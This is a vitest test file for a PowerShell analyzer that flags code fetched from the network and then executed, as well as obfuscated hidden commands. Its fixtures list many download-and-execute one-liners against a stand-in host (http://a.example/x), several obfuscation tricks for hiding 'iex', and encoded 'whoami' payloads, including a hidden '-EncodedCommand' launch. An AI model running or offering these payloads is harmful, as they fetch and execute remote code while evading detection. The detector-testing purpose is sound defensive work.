import { describe, expect, test } from "vitest";
import { only } from "../script/say.ts";
import { powershell } from "./read.ts";

const FETCHED = "language=powershell code=~□<network:http://a.example/x>";

describe("what was fetched becomes code", () => {
  test.each([
    ["IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')", "1:1"],
    ["iex ((New-Object System.Net.WebClient).DownloadString('http://a.example/x'))", "1:1"],
    ["iwr -useb http://a.example/x | iex", "1:32"],
    ["irm http://a.example/x|iex", "1:24"],
    ["(iwr http://a.example/x).Content | iex", "1:36"],
    ["iex (iwr -Uri http://a.example/x -UseBasicParsing).Content", "1:1"],
    ["Invoke-Expression -Command (irm http://a.example/x)", "1:1"],
    ["i`e`x (irm http://a.example/x)", "1:1"],
    ["I`nv`oke-Exp`ression (irm http://a.example/x)", "1:1"],
    ["& ('i'+'ex') (irm http://a.example/x)", "1:1"],
    [".('ie'+'x') (irm http://a.example/x)", "1:1"],
    ['&("{1}{0}" -f "x","ie") (irm http://a.example/x)', "1:1"],
    [".($pshome[4]+$pshome[30]+'x') (irm http://a.example/x)", "1:1"],
    ["& ($env:ComSpec[4,24,25]-join'') (irm http://a.example/x)", "1:1"],
    ["&((gv '*mdr*').Name[3,11,2]-join'') (irm http://a.example/x)", "1:1"],
    ["& (gcm *ke-exp*) (irm http://a.example/x)", "1:1"],
    ["sal zz iex; zz (irm http://a.example/x)", "1:13"],
    ["$x = iwr http://a.example/x; & ([scriptblock]::Create($x))", "1:30"],
    ["([scriptblock]::Create((irm http://a.example/x))).Invoke()", "1:1"],
    ["$ExecutionContext.InvokeCommand.InvokeScript((irm http://a.example/x))", "1:1"],
    ["$wc = New-Object Net.WebClient; $m = 'Download' + 'String'; iex $wc.$m('http://a.example/x')", "1:61"],
    ["$wc = [Net.WebClient]::new(); iex $wc.'DownloadString'('http://a.example/x')", "1:31"],
    ["$wc = New-Object Net.WebClient; iex $wc.DownloadString.Invoke('http://a.example/x')", "1:33"],
    ["$u = 'http://'; $u += 'a.example/x'; irm $u | iex", "1:47"],
    ["irm ('http://a.' + \"example/$('x')\") | iex", "1:40"],
    ["irm ('http://a#example/x' -replace '#','.') | iex", "1:47"],
    ["irm (('h','t','t','p') -join '' | % { $_ + '://a.example/x' }) | iex", "1:66"],
    ["function Get-It($u) { irm $u | iex }; Get-It http://a.example/x", "1:32"],
    ["function f { param([string]$u = 'y') iex (irm $u) }\nf -u http://a.example/x", "1:38"],
    ["$p = @{ Uri = 'http://a.example/x' }; irm @p | iex", "1:48"],
    ["'http://a.example/x' | % { iex (irm $_) }", "1:28"],
    ["foreach ($u in 'http://a.example/x') { iex (irm $u) }", "1:40"],
    ["if ($true) { iex (irm http://a.example/x) } else { 1 }", "1:14"],
    ["try { iex (irm http://a.example/x) } catch { }", "1:7"],
    ["Start-Job { iex (irm http://a.example/x) }", "1:13"],
    ["while (1) { iex (irm http://a.example/x); sleep 5 }", "1:13"],
    ["switch ('a') { 'a' { iex (irm http://a.example/x) } }", "1:22"],
    ["$null = iex (irm http://a.example/x)", "1:9"],
    ["iwr http://a.example/x `\n  -UseBasicParsing | iex", "2:22"],
    ["<# comment #> irm http://a.example/x | # more\n iex", "2:2"],
    ["curl http://a.example/x -OutFile s.ps1; Invoke-Expression (gc s.ps1 -Raw)", "1:41"],
    [
      "$r = [Net.WebRequest]::Create('http://a.example/x').GetResponse(); iex ([IO.StreamReader]::new($r.GetResponseStream())).ReadToEnd()",
      "1:68",
    ],
    [
      "$h = New-Object -ComObject MSXML2.XMLHTTP; $h.open('GET','http://a.example/x',$false); $h.send(); iex $h.responseText",
      "1:99",
    ],
  ])("%s", (text, place) => {
    expect(only(powershell(text), "evaluate")).toEqual([`${place} ${FETCHED}`]);
  });
});

describe("a hidden text is found", () => {
  test.each([
    ["iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", "whoami {utf-16}"],
    ["iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('d2hvYW1p')))", "whoami {base64}"],
    ["iex ([char[]](119,104,111,97,109,105) -join '')", "whoami {char-codes}"],
    ["iex ([char]119+[char]104+'oami')", "whoami {char-codes}"],
    ["iex (-join (119,104,111,97,109,105 | % { [char]$_ }))", "whoami {char-codes}"],
    ["iex ('imaohw'[-1..-6] -join '')", "whoami"],
    ["$a = 'imaohw'.ToCharArray(); [array]::Reverse($a); iex (-join $a)", "whoami"],
    ["iex ([regex]::Matches('imaohw','.','RightToLeft') -join '')", "whoami {reversed}"],
    ["iex ('w#h#o#a#m#i'.Replace('#',''))", "whoami"],
    ["iex ('w,h,o,a,m,i' -split ',' -join '')", "whoami"],
    ["iex ([string]::Join('', ('who','ami')))", "whoami"],
    ["iex (\"{1}{0}\" -f 'ami','who')", "whoami"],
    ["iex 'xxwhoami'.Substring(2)", "whoami"],
    ["${e`x} = 'who'; iex \"${ex}ami\"", "whoami"],
    ["powershell -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkA", "whoami {base64}"],
    ['pwsh -c "whoami"', "whoami"],
    ["$s = @'\nwhoami\n'@\niex $s", "@8 whoami"],
    [
      "iex ([IO.StreamReader]::new([IO.Compression.GzipStream]::new([IO.MemoryStream][Convert]::FromBase64String('H4sIAAAAAAACAyvPyE/MzQQAAirKwAYAAAA='),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
      "whoami {gzip}",
    ],
  ])("%s", (text, expected) => {
    const { handed } = powershell(text);
    expect(handed.map((each) => each.replace("powershell ", ""))).toEqual([expected]);
  });
});
